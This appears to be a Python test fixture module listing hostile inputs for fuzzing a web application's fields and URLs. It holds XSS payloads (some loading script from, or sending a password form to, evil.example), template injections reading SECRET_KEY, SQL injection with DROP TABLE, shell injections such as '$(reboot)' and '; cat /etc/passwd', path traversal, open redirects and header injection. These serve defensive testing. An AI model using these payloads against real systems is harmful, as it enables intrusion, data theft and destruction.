"""A hundred texts nobody would write in good faith, for every field in which something can be written.

`MARKUP` stands in texts that break out of a page's markup where they are not escaped. A lone surrogate cannot be
written as UTF-8; `written` sends the bytes that UTF-8 would have for it, as a broken program does.
"""

from __future__ import annotations

from urllib.parse import quote, urlencode

from tests.parts import database

UNSEEN = ["\u200b", "\u2800", "\ufeff", "\u00ad", "\u3164", "\U000e0041", "\u200b \u2800\n\u2060", "\u2003"]
"""Texts in which a reader sees nothing, though they aren't empty."""

SCRIPTS = [
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" autofocus onfocus="alert(1)',
    "' autofocus onfocus='alert(1)",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<math><mtext></p><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<b hx-get=/settings/leave/ hx-trigger=load>x</b>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<form action="//evil.example"><input name=password>',
    "<style>*{background:url(//evil.example)}</style>",
    '<base href="//evil.example/">',
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<\u0000script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    'https://example.org/"onmouseover="alert(1)',
    "https://example.org/<script>alert(1)</script>",
    "javascript:alert(1)//https://example.org/",
    "data:text/html,<script>alert(1)</script>",
]
"""HTML, scripts and addresses that run them."""

TEMPLATES = [
    "{{ 7 * 7 }}",
    "{% load static %}{{ settings.SECRET_KEY }}",
    "{% include 'base.html' %}",
    "{{ request.user.password }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7 * 7 %>",
    "{0}",
    "{name.__class__.__init__.__globals__}",
    "{}{}{",
    "}{",
    "%s%s%s%n",
    "%(name)s",
    "%",
    "100 %d",
]
"""Templates and format strings."""

QUERIES = [
    "' OR '1'='1",
    "'; DROP TABLE games_match; --",
    '" OR ""="',
    "1) UNION SELECT password FROM accounts_user --",
    "%' ESCAPE '!",
    "_%_",
    "\\",
]
"""SQL, and what patterns of it take for signs of their own."""

COMMANDS = [
    "$(reboot)",
    "`reboot`",
    "; cat /etc/passwd",
    "| sleep 9",
    "__import__('os').system('reboot')",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "/etc/passwd\u0000.html",
    "C:\\Windows\\win.ini",
    "file:///etc/passwd",
    "//evil.example/",
    "https://evil.example/",
    "/\\evil.example",
    "http:evil.example",
    "\t//evil.example",
]
"""Shell, paths, and addresses to be led to."""

HEADERS = [
    "Ann\r\nBcc: everybody@example.org",
    "Ann\nSet-Cookie: sessionid=1",
    "Ann\r\n\r\n<html><script>alert(1)</script>",
    "Ann%0d%0aLocation: //evil.example",
    "ann@example.org,everybody@example.org",
    '"Ann" <everybody@example.org>',
    "=?utf-8?q?=0ABcc:_everybody=40example.org?=",
    "Ann\u2028Bcc: everybody@example.org",
]
"""Lines smuggled into the headers of mails and answers."""

NUMBERS = [
    "-1",
    "99999",
    "9223372036854775808",
    "9" * 5_000,
    "1e400",
    "NaN",
    "-Infinity",
    "0x10",
    "\u0664\u0662",
    "\u00b2",
    "\u00bd",
]
"""Numbers that are none, or none that anybody counts to."""

SIGNS = [
    "\u0000",
    "\u0000\u0001\u0002\u001b[31m\u007f",
    "\u202egnp.exe",
    "\u2066\u202b\u2069",
    "\u200b\u200c\u200d\ufeff",
    "Z\u0351\u0352\u0353" + "\u0334" * 300,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "\U0001f3f4\U000e0067\U000e0062\U000e007f",
    "\u0410nn",
    "\uff21\uff4e\uff4e",
    "\ufdfa" * 40,
    "\ud800",
    "\udfff\ud800",
    "\ufffe\uffff\U0010ffff",
    "   ",
    "x" * 100_000,
    "<" * 20_000,
    '{"$ne": null, "__proto__": {}}',
    "[" * 5_000,
]
"""Signs that cannot be seen, turn the line round, look like others, or come in masses."""

OF_PAGES = [*SCRIPTS, *TEMPLATES, *COMMANDS, *HEADERS]
OF_DATABASES = [*QUERIES, *NUMBERS, *SIGNS]
TEXTS = OF_DATABASES if database.is_postgres() else [*OF_PAGES, *OF_DATABASES]
"""What a page or a shell runs is not a matter of the database: PostgreSQL meets SQL and what no column may hold."""
assert len({*OF_PAGES, *OF_DATABASES}) >= 100

MARKUP = frozenset("<>\"'")


def written(fields: dict[str, str]) -> str:
    """Return fields as the body or the query of a request."""
    return urlencode(fields, errors="surrogatepass")


def in_a_path(text: str) -> str:
    """Return a text as a part of an address."""
    return quote(text, safe="", errors="surrogatepass")
